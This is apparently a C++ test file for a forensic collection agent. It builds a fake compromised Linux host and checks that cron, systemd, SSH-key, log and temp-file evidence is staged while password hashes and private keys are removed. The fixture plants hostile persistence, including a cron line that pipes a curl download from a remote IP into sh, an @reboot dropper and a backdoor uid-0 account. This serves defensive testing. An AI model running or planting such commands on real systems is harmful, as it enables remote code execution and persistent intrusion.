// The configuration collectors against a fixture host tree: what a responder needs (the planted
// cron line, unit, timer, authorized key, package, temp file with its hash) is in the staging
// directory, and no staged file holds the shadow hash or the private key — a file that holds
// one is still staged, with only the secret removed (and counted).
#include <sys/stat.h>
#include <unistd.h>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <stop_token>
#include <string>
#include <string_view>
#include <vector>

#include "agent/collect/collectors.h"
#include "agent/collect/package_staging.h"
#include "common/hash.h"
#include "common/testing/temp_dir.h"

namespace quell::agent::collect {
namespace {

namespace fs = std::filesystem;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr char kShadowHash[] = "$6$Xq3saltsalt$Vb8QhashhashhashhashhashhashhashhashhashhashhashhashZz1";
constexpr char kPrivateKeyBody[] = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQSECRETBODY";
constexpr char kEvilElf[] = "\x7f" "ELF\x02\x01\x01 dropped miner";
constexpr char kAuthorizedKey[] =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlantedAttackerKeyXXXXXXXXXXXXXXXXXXXXXXXX attacker@evil";

void Write(const std::string& path, const std::string& content, mode_t mode = 0644) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path, std::ios::binary) << content;
  ::chmod(path.c_str(), mode);
}

std::string Read(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

nlohmann::json ReadJson(const std::string& path) {
  const std::string text = Read(path);
  EXPECT_FALSE(text.empty()) << path;
  return nlohmann::json::parse(text, nullptr, /*allow_exceptions=*/false);
}

// A host with persistence planted everywhere a responder looks.
void BuildFixture(const std::string& root) {
  Write(root + "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n"
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
        "svc:x:0:0:backdoor uid 0:/var/lib/svc:/bin/sh\n");
  Write(root + "/etc/group", "root:x:0:\nsudo:x:27:alice\nalice:x:1000:\n");
  Write(root + "/etc/shadow", std::string("alice:") + kShadowHash + ":19000:0:99999:7:::\n", 0600);
  Write(root + "/etc/gshadow", std::string("sudo:") + kShadowHash + "::alice\n", 0600);
  Write(root + "/etc/shells", "/bin/sh\n/bin/bash\n");
  Write(root + "/etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n", 0440);
  Write(root + "/etc/sudoers.d/alice", "alice ALL=(ALL) NOPASSWD: ALL\n", 0440);

  Write(root + "/etc/crontab", "SHELL=/bin/sh\n# m h dom mon dow user command\n"
                               "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
  Write(root + "/etc/cron.d/backup", "# nightly\n30 2 * * * root /usr/local/bin/backup.sh\n"
                                     "@reboot root /tmp/.x/dropper --silent\n");
  Write(root + "/etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", 0755);
  Write(root + "/var/spool/cron/crontabs/alice", "*/5 * * * * curl -s http://203.0.113.7/p | sh\n", 0600);
  Write(root + "/var/spool/cron/crontabs/root",
        std::string("-----BEGIN OPENSSH PRIVATE KEY-----\n") + kPrivateKeyBody +
            "\n-----END OPENSSH PRIVATE KEY-----\n0 4 * * * /usr/local/bin/backup.sh\n",
        0600);
  Write(root + "/var/spool/cron/atjobs/a0000101b2c3d4",
        "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\n"
        "HOME=/home/alice; export HOME\ncd /home/alice || {\n\t echo 'Execution directory "
        "inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER2a1b'\n"
        "/tmp/at-payload --once\nmarcinDELIMITER2a1b\n",
        0700);

  Write(root + "/etc/systemd/system/evil.service",
        "[Unit]\nDescription=Totally normal\n[Service]\nExecStart=/tmp/.x/evil --daemon\n"
        "[Install]\nWantedBy=multi-user.target\n");
  fs::create_directories(root + "/etc/systemd/system/multi-user.target.wants");
  fs::create_symlink("/etc/systemd/system/evil.service",
                     root + "/etc/systemd/system/multi-user.target.wants/evil.service");
  Write(root + "/etc/systemd/system/evil.timer",
        "[Unit]\nDescription=Run it nightly\n[Timer]\nOnCalendar=*-*-* 03:00:00\nUnit=evil.service\n");
  Write(root + "/usr/lib/systemd/system/ssh.service",
        "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStart=/usr/sbin/sshd -D\n");
  fs::create_directories(root + "/etc/init.d");
  Write(root + "/etc/init.d/legacy-agent", "#!/bin/sh\n", 0755);

  Write(root + "/etc/profile.d/pasted.sh",
        std::string("# oops\n-----BEGIN OPENSSH PRIVATE KEY-----\n") + kPrivateKeyBody +
            "\n-----END OPENSSH PRIVATE KEY-----\n");
  Write(root + "/home/alice/.bashrc", "alias ll='ls -l'\n(/tmp/.x/evil &)\n");
  Write(root + "/home/alice/.ssh/authorized_keys", std::string(kAuthorizedKey) + "\n", 0600);
  Write(root + "/home/alice/.ssh/id_rsa",
        std::string("-----BEGIN OPENSSH PRIVATE KEY-----\n") + kPrivateKeyBody +
            "\n-----END OPENSSH PRIVATE KEY-----\n",
        0600);
  Write(root + "/home/alice/.ssh/id_rsa.pub", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ alice@host\n");
  // A private key under a public-looking name: flagged in the listing, never staged.
  Write(root + "/home/alice/.ssh/backup.pub",
        std::string("-----BEGIN OPENSSH PRIVATE KEY-----\n") + kPrivateKeyBody +
            "\n-----END OPENSSH PRIVATE KEY-----\n");
  Write(root + "/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRootKey root@admin\n", 0600);

  Write(root + "/var/lib/dpkg/status",
        "Package: openssh-server\nStatus: install ok installed\nPriority: optional\n"
        "Architecture: amd64\nVersion: 1:9.2p1-2+deb12u3\nDescription: secure shell server\n"
        " continuation line\n\n"
        "Package: telnetd\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 0.17-44\n\n"
        "Package: netcat-traditional\nStatus: install ok installed\nArchitecture: amd64\n"
        "Version: 1.10-47\n");
  Write(root + "/usr/local/bin/backup.sh", "#!/bin/sh\ntar czf /backup.tgz /etc\n", 0755);

  Write(root + "/var/log/auth.log",
        "2026-11-26T10:00:00 host sshd[100]: Accepted publickey for alice from 198.51.100.9\n"
        "2026-11-26T10:00:05 host sudo: alice : COMMAND=/bin/echo alice:" + std::string(kShadowHash) + "\n"
        "2026-11-26T10:00:09 host sudo: alice : COMMAND=/usr/sbin/useradd -o -u 0 svc\n");

  Write(root + "/tmp/.x/evil", kEvilElf, 0644);
  Write(root + "/tmp/notes.txt", "hello\n");
  fs::create_symlink("/etc/shadow", root + "/tmp/shadow-link");
  ASSERT_EQ(::mkfifo((root + "/tmp/fifo").c_str(), 0600), 0);  // must not block the walk
  Write(root + "/var/tmp/keep", "x");
  fs::create_directories(root + "/dev/shm");
}

class ConfigurationCollectorsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    root_ = dir_ / "host";
    BuildFixture(root_);
    sources_.root = root_;
    sources_.proc_root = dir_ / "proc";
    sources_.run_commands = false;
  }

  std::unique_ptr<PackageStaging> Staging(CollectLimits limits = {}) {
    auto staging = PackageStaging::Create(dir_ / "staging", limits, std::stop_token());
    EXPECT_TRUE(staging.ok()) << staging.status().ToString();
    return std::move(staging).value();
  }

  std::string Staged(const std::string& rel) const { return dir_ / ("staging/" + rel); }

  // The staged artifact <topic>/<name>; fails the test when there is none.
  static StagedArtifact Artifact(const PackageStaging& p, const std::string& topic, const std::string& name) {
    for (const StagedArtifact& a : p.artifacts()) {
      if (a.topic == topic && a.name == name) return a;
    }
    ADD_FAILURE() << topic << "/" << name << " was not staged";
    return {};
  }

  // Every staged file whose content holds `needle`.
  std::vector<std::string> StagedFilesHolding(std::string_view needle) const {
    std::vector<std::string> out;
    for (const auto& e : fs::recursive_directory_iterator(dir_ / "staging")) {
      if (e.is_regular_file() && Read(e.path()).find(needle) != std::string::npos) {
        out.push_back(e.path().string());
      }
    }
    return out;
  }

  bool HasFailure(const PackageStaging& p, std::string_view what_part, std::string_view reason_part) {
    for (const CollectFailure& f : p.failures()) {
      if (f.what.find(what_part) != std::string::npos && f.reason.find(reason_part) != std::string::npos) {
        return true;
      }
    }
    return false;
  }

  testing::TempDir dir_;
  std::string root_;
  CollectSources sources_;
};

TEST_F(ConfigurationCollectorsTest, AutorunsCopiesPersistenceAndIndexesItsCommandLines) {
  auto out = Staging();
  CollectAutoruns(sources_, *out);

  EXPECT_THAT(Read(Staged("Autoruns/etc/cron.d/backup")), HasSubstr("@reboot root /tmp/.x/dropper"));
  EXPECT_THAT(Read(Staged("Autoruns/etc/systemd/system/evil.service")), HasSubstr("ExecStart=/tmp/.x/evil"));
  EXPECT_THAT(Read(Staged("Autoruns/home/alice/.ssh/authorized_keys")), HasSubstr(kAuthorizedKey));
  EXPECT_THAT(Read(Staged("Autoruns/root/.ssh/authorized_keys")), HasSubstr("root@admin"));
  EXPECT_THAT(Read(Staged("Autoruns/var/spool/cron/crontabs/alice")), HasSubstr("203.0.113.7"));
  // The enable symlink is listed, not followed; package units are listed, not copied.
  EXPECT_THAT(Read(Staged("Autoruns/autoruns_symlinks.txt")),
              HasSubstr("/etc/systemd/system/multi-user.target.wants/evil.service -> "
                        "/etc/systemd/system/evil.service"));
  EXPECT_THAT(Read(Staged("Autoruns/systemd_package_units.txt")),
              HasSubstr("/usr/lib/systemd/system/ssh.service"));
  EXPECT_FALSE(fs::exists(Staged("Autoruns/usr/lib/systemd/system/ssh.service")));
  // Nothing in ~/.ssh but authorized_keys.
  EXPECT_FALSE(fs::exists(Staged("Autoruns/home/alice/.ssh/id_rsa")));
  EXPECT_FALSE(fs::exists(Staged("Autoruns/home/alice/.ssh/backup.pub")));
  // A key pasted into a profile script: the script is staged, the key block is one marker.
  EXPECT_EQ(Read(Staged("Autoruns/etc/profile.d/pasted.sh")), "# oops\n[removed by Quell: a private key]\n");
  EXPECT_EQ(Artifact(*out, "Autoruns", "etc/profile.d/pasted.sh").secrets_removed, 1u);
  EXPECT_FALSE(HasFailure(*out, "/etc/profile.d/pasted.sh", ""));
  EXPECT_EQ(StagedFilesHolding(kPrivateKeyBody), std::vector<std::string>{});

  nlohmann::json index = ReadJson(Staged("Autoruns/autoruns.json"));
  std::map<std::string, nlohmann::json> by_location;
  for (const auto& e : index["entries"]) by_location[e["location"].get<std::string>()] = e;
  ASSERT_TRUE(by_location.count("/etc/cron.d/backup"));
  EXPECT_EQ(by_location["/etc/cron.d/backup"]["kind"], "cron");
  EXPECT_THAT(by_location["/etc/cron.d/backup"]["lines"].get<std::vector<std::string>>(),
              Contains("@reboot root /tmp/.x/dropper --silent"));
  EXPECT_THAT(by_location["/etc/systemd/system/evil.service"]["lines"].get<std::vector<std::string>>(),
              Contains("ExecStart=/tmp/.x/evil --daemon"));
  EXPECT_EQ(by_location["/etc/systemd/system/multi-user.target.wants/evil.service"]["type"], "symlink");
  EXPECT_THAT(by_location["/home/alice/.bashrc"]["lines"].get<std::vector<std::string>>(),
              Contains("(/tmp/.x/evil &)"));
  EXPECT_THAT(by_location["/var/spool/cron/atjobs/a0000101b2c3d4"]["lines"].get<std::vector<std::string>>(),
              Contains("/tmp/at-payload --once"));
  EXPECT_EQ(by_location["/var/spool/cron/crontabs/alice"]["user"], "alice");
  EXPECT_EQ(by_location["/usr/lib/systemd/system/ssh.service"]["package_owned"], true);
  // The index shows what was staged: the key block as its marker, not its body lines.
  EXPECT_EQ(by_location["/etc/profile.d/pasted.sh"]["copied"], "etc/profile.d/pasted.sh");
  EXPECT_EQ(by_location["/etc/profile.d/pasted.sh"]["lines"],
            nlohmann::json({"[removed by Quell: a private key]"}));
  EXPECT_THAT(by_location["/var/spool/cron/crontabs/root"]["lines"].get<std::vector<std::string>>(),
              Contains("0 4 * * * /usr/local/bin/backup.sh"));
}

TEST_F(ConfigurationCollectorsTest, ScheduledTasksListsCronAtAndTimersInOnePlace) {
  auto out = Staging();
  CollectScheduledTasks(sources_, *out);
  nlohmann::json tasks = ReadJson(Staged("Scheduled tasks/scheduled_tasks.json"))["tasks"];
  bool reboot = false, alice = false, at = false, timer = false, script = false, pasted = false;
  for (const auto& t : tasks) {
    if (t["type"] == "cron" && t["command"] == "/tmp/.x/dropper --silent") {
      reboot = t["schedule"] == "@reboot" && t["user"] == "root" && t["line"] == 3;
    }
    if (t["type"] == "cron" && t["source"] == "/var/spool/cron/crontabs/alice") {
      alice = t["user"] == "alice" && t["schedule"] == "*/5 * * * *" &&
              t["command"] == "curl -s http://203.0.113.7/p | sh";
    }
    if (t["type"] == "at") {
      at = t["user"] == "alice" &&
           t["commands"] == std::vector<std::string>{"/tmp/at-payload --once"};
    }
    if (t["type"] == "systemd-timer" && t["timer"] == "evil.timer") {
      timer = t["schedule"] == std::vector<std::string>{"OnCalendar=*-*-* 03:00:00"} &&
              t["unit"]["name"] == "evil.service" &&
              t["unit"]["settings"] == std::vector<std::string>{"ExecStart=/tmp/.x/evil --daemon"};
    }
    if (t["type"] == "cron-script") script = t["command"] == "/etc/cron.daily/logrotate";
    // The crontab with a pasted key: its entry is listed; the key block is one marker line.
    if (t["type"] == "cron" && t["source"] == "/var/spool/cron/crontabs/root" && t["line"] == 2) {
      pasted = t["command"] == "/usr/local/bin/backup.sh" && t["schedule"] == "0 4 * * *";
    }
  }
  EXPECT_TRUE(reboot);
  EXPECT_TRUE(alice);
  EXPECT_TRUE(at);
  EXPECT_TRUE(timer);
  EXPECT_TRUE(script);
  EXPECT_TRUE(pasted) << tasks.dump(1);
  EXPECT_EQ(StagedFilesHolding(kPrivateKeyBody), std::vector<std::string>{});
  const std::string text = Read(Staged("Scheduled tasks/scheduled_tasks.txt"));
  EXPECT_THAT(text, HasSubstr("cron | @reboot | root | /tmp/.x/dropper --silent | /etc/cron.d/backup:3"));
  EXPECT_THAT(text, HasSubstr("evil.timer"));
  EXPECT_FALSE(fs::exists(Staged("Scheduled tasks/systemctl_list_timers.txt")));  // no commands
}

TEST_F(ConfigurationCollectorsTest, ServicesShowExecStartAndEnablement) {
  auto out = Staging();
  CollectServices(sources_, *out);
  nlohmann::json j = ReadJson(Staged("Services/services.json"));
  std::map<std::string, nlohmann::json> by_name;
  for (const auto& s : j["services"]) by_name[s["name"].get<std::string>()] = s;
  ASSERT_TRUE(by_name.count("evil.service"));
  EXPECT_EQ(by_name["evil.service"]["enabled"], true);
  EXPECT_THAT(by_name["evil.service"]["exec"].get<std::vector<std::string>>(),
              Contains("ExecStart=/tmp/.x/evil --daemon"));
  EXPECT_THAT(by_name["evil.service"]["enabled_by"].get<std::vector<std::string>>(),
              Contains("/etc/systemd/system/multi-user.target.wants/evil.service"));
  ASSERT_TRUE(by_name.count("ssh.service"));
  EXPECT_EQ(by_name["ssh.service"]["enabled"], false);
  EXPECT_EQ(by_name["ssh.service"]["package_owned"], true);
  EXPECT_EQ(j["init_d"][0]["name"], "legacy-agent");
  EXPECT_THAT(Read(Staged("Services/services.txt")),
              HasSubstr("evil.service | enabled | - | /etc/systemd/system/evil.service | /tmp/.x/evil --daemon"));
}

TEST_F(ConfigurationCollectorsTest, InstalledProgramsListsOnlyInstalledPackagesAndLocalTools) {
  auto out = Staging();
  CollectInstalledPrograms(sources_, *out);
  nlohmann::json j = ReadJson(Staged("Installed programs/packages.json"));
  ASSERT_EQ(j["count"], 2);
  EXPECT_EQ(j["packages"][0]["name"], "openssh-server");
  EXPECT_EQ(j["packages"][0]["version"], "1:9.2p1-2+deb12u3");
  EXPECT_EQ(j["packages"][0]["architecture"], "amd64");
  EXPECT_THAT(Read(Staged("Installed programs/packages.txt")), Not(HasSubstr("telnetd")));
  EXPECT_THAT(Read(Staged("Installed programs/local_software.txt")),
              HasSubstr(Sha256Hex("#!/bin/sh\ntar czf /backup.tgz /etc\n") + " x /usr/local/bin/backup.sh"));
}

TEST_F(ConfigurationCollectorsTest, UsersAndGroupsWithoutSecrets) {
  auto out = Staging();
  CollectUsersAndGroups(sources_, *out);
  EXPECT_EQ(Read(Staged("Users and Groups/etc/passwd")), Read(root_ + "/etc/passwd"));
  EXPECT_EQ(Read(Staged("Users and Groups/etc/group")), Read(root_ + "/etc/group"));
  EXPECT_THAT(Read(Staged("Users and Groups/etc/sudoers.d/alice")), HasSubstr("NOPASSWD"));
  EXPECT_FALSE(fs::exists(Staged("Users and Groups/etc/shadow")));

  nlohmann::json users = ReadJson(Staged("Users and Groups/users.json"))["users"];
  std::map<std::string, nlohmann::json> by_name;
  for (const auto& u : users) by_name[u["name"].get<std::string>()] = u;
  EXPECT_EQ(by_name["alice"]["groups"], (std::vector<std::string>{"alice", "sudo"}));
  EXPECT_EQ(by_name["alice"]["login_shell"], true);
  EXPECT_EQ(by_name["daemon"]["login_shell"], false);
  EXPECT_EQ(by_name["svc"]["uid0"], true);

  nlohmann::json ssh = ReadJson(Staged("Users and Groups/ssh_dirs.json"))["ssh_dirs"];
  std::map<std::string, nlohmann::json> files;
  for (const auto& d : ssh) {
    for (const auto& e : d["entries"]) files[d["path"].get<std::string>() + "/" + e["name"].get<std::string>()] = e;
  }
  ASSERT_TRUE(files.count("/home/alice/.ssh/id_rsa"));
  EXPECT_EQ(files["/home/alice/.ssh/id_rsa"]["not_read"], "may be a private key");
  EXPECT_FALSE(files["/home/alice/.ssh/id_rsa"].contains("sha256"));
  EXPECT_EQ(files["/home/alice/.ssh/id_rsa"]["mode"], "0600");
  EXPECT_EQ(files["/home/alice/.ssh/authorized_keys"]["sha256"], Sha256Hex(std::string(kAuthorizedKey) + "\n"));
  EXPECT_TRUE(files.count("/root/.ssh/authorized_keys"));
  ASSERT_TRUE(files.count("/home/alice/.ssh/backup.pub"));
  EXPECT_EQ(files["/home/alice/.ssh/backup.pub"]["holds_private_key"], true);
  EXPECT_FALSE(files["/home/alice/.ssh/backup.pub"].contains("sha256"));
  EXPECT_EQ(StagedFilesHolding(kPrivateKeyBody), std::vector<std::string>{});
}

TEST_F(ConfigurationCollectorsTest, SecurityLogsKeepTheLogButNotAPlantedHashLine) {
  auto out = Staging();
  CollectSecurityLogs(sources_, *out);
  EXPECT_EQ(Read(Staged("Security logs/var/log/auth.log")),
            "2026-11-26T10:00:00 host sshd[100]: Accepted publickey for alice from 198.51.100.9\n"
            "[removed by Quell: a line holding a password hash]\n"
            "2026-11-26T10:00:09 host sudo: alice : COMMAND=/usr/sbin/useradd -o -u 0 svc\n");
  EXPECT_EQ(Artifact(*out, "Security logs", "var/log/auth.log").secrets_removed, 1u);
  EXPECT_EQ(StagedFilesHolding("$6$Xq3saltsalt"), std::vector<std::string>{});
  nlohmann::json logs = ReadJson(Staged("Security logs/logs.json"))["logs"];
  EXPECT_EQ(logs[0]["collected"], "var/log/auth.log");
  EXPECT_EQ(logs[0]["tail"], false);
}

TEST_F(ConfigurationCollectorsTest, SecurityLogsKeepTheNewestLinesWithinTheCap) {
  std::string big;
  for (int i = 0; i < 5000; ++i) big += "2026-11-26 host sshd[1]: line " + std::to_string(i) + "\n";
  Write(root_ + "/var/log/auth.log", big);
  CollectLimits limits;
  limits.max_artifact_bytes = 4096;
  auto out = Staging(limits);
  CollectSecurityLogs(sources_, *out);
  const std::string log = Read(Staged("Security logs/var/log/auth.log"));
  EXPECT_LE(log.size(), 4096u);
  EXPECT_THAT(log, HasSubstr("[quell: the last "));
  EXPECT_TRUE(log.ends_with("line 4999\n"));
  EXPECT_THAT(log, Not(HasSubstr("line 0\n")));
  // The kept text starts at a whole line.
  EXPECT_TRUE(log.substr(log.find('\n') + 1).starts_with("2026-11-26 host sshd[1]: line "));
  EXPECT_EQ(ReadJson(Staged("Security logs/logs.json"))["logs"][0]["tail"], true);
}

TEST_F(ConfigurationCollectorsTest, TempDirectoriesListFilesWithHashesWithoutFollowingLinks) {
  auto out = Staging();
  CollectTempDirectories(sources_, *out);
  nlohmann::json j = ReadJson(Staged("Temp Directories/temp_directories.json"));
  std::map<std::string, nlohmann::json> by_path;
  for (const auto& e : j["entries"]) by_path[e["path"].get<std::string>()] = e;
  ASSERT_TRUE(by_path.count("/tmp/.x/evil"));
  EXPECT_EQ(by_path["/tmp/.x/evil"]["sha256"], Sha256Hex(std::string(kEvilElf, sizeof kEvilElf - 1)));
  EXPECT_EQ(by_path["/tmp/.x/evil"]["elf"], true);
  EXPECT_EQ(by_path["/tmp/.x/evil"]["executable"], true);  // ELF magic even without +x
  EXPECT_EQ(by_path["/tmp/notes.txt"]["executable"], false);
  EXPECT_EQ(by_path["/tmp/.x"]["type"], "directory");
  EXPECT_EQ(by_path["/tmp/shadow-link"]["type"], "symlink");
  EXPECT_EQ(by_path["/tmp/shadow-link"]["target"], "/etc/shadow");
  EXPECT_FALSE(by_path["/tmp/shadow-link"].contains("sha256"));
  EXPECT_EQ(by_path["/tmp/fifo"]["type"], "fifo");
  EXPECT_TRUE(by_path.count("/var/tmp/keep"));
  EXPECT_THAT(Read(Staged("Temp Directories/temp_directories.txt")),
              HasSubstr(Sha256Hex(std::string(kEvilElf, sizeof kEvilElf - 1)) + " x /tmp/.x/evil"));
}

TEST_F(ConfigurationCollectorsTest, NoStagedFileHoldsThePasswordHashOrThePrivateKey) {
  auto out = Staging();
  for (auto fn : {CollectAutoruns, CollectInstalledPrograms, CollectScheduledTasks, CollectSecurityLogs,
                  CollectServices, CollectUsersAndGroups, CollectTempDirectories}) {
    fn(sources_, *out);
  }
  EXPECT_FALSE(out->Exhausted());
  size_t files = 0;
  for (const auto& entry : fs::recursive_directory_iterator(dir_ / "staging")) {
    if (!entry.is_regular_file()) continue;
    ++files;
    const std::string text = Read(entry.path());
    EXPECT_THAT(text, Not(HasSubstr(kShadowHash))) << entry.path();
    EXPECT_THAT(text, Not(HasSubstr("$6$Xq3saltsalt"))) << entry.path();
    EXPECT_THAT(text, Not(HasSubstr("PRIVATE KEY"))) << entry.path();
    EXPECT_THAT(text, Not(HasSubstr(kPrivateKeyBody))) << entry.path();
  }
  EXPECT_GT(files, 20u);  // the walk saw the package, not an empty directory
  for (const StagedArtifact& a : out->artifacts()) {
    EXPECT_THAT(a.source, Not(HasSubstr("shadow"))) << a.name;
  }
}

}  // namespace
}  // namespace quell::agent::collect
